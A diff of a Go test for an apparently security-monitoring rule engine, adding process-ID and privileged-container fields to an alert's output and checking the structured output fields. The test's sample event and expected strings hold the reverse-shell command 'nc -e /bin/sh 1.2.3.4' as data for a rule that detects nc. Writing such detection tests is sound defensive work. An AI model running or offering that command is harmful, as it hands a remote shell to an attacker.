@@ -191,16 +191,21 @@ func TestOutputRendering(t *testing.T) {
 - rule: r
   desc: d
   condition: proc.name = nc
-  output: "cmd=%proc.cmdline gp=%proc.aname[2] img=%container.image.repository tag=%container.image.tag user=%toupper(user.name) missing=%fd.name pct=100%% end %proc.name."
+  output: "pid=%proc.pid priv=%container.privileged cmd=%proc.cmdline gp=%proc.aname[2] img=%container.image.repository tag=%container.image.tag user=%toupper(user.name) missing=%fd.name pct=100%% end %proc.name."
   priority: WARNING
 `)
 	as := fired(e, ev)
 	if len(as) != 1 {
 		t.Fatalf("got %d alerts", len(as))
 	}
-	want := "cmd=nc -e /bin/sh 1.2.3.4 gp=sshd img=docker.io/library/alpine tag=3.20 user=ALICE missing=<NA> pct=100% end nc."
+	want := "pid=100 priv=false cmd=nc -e /bin/sh 1.2.3.4 gp=sshd img=docker.io/library/alpine tag=3.20 user=ALICE missing=<NA> pct=100% end nc."
 	if as[0].Output != want {
 		t.Fatalf("output\n got  %q\n want %q", as[0].Output, want)
+	}
+	of := as[0].OutputFields
+	if of["proc.cmdline"] != "nc -e /bin/sh 1.2.3.4" || of["proc.aname[2]"] != "sshd" || of["fd.name"] != nil ||
+		of["toupper(user.name)"] != "ALICE" || len(of) != 9 || of["proc.pid"] != int64(100) || of["container.privileged"] != false {
+		t.Fatalf("output fields %v", of)
 	}
 	if as[0].Rule.Severity != 5 || as[0].Rule.FindingType != "Vigil:Runtime/R" {
 		t.Fatalf("priority mapping: %+v", as[0].Rule)
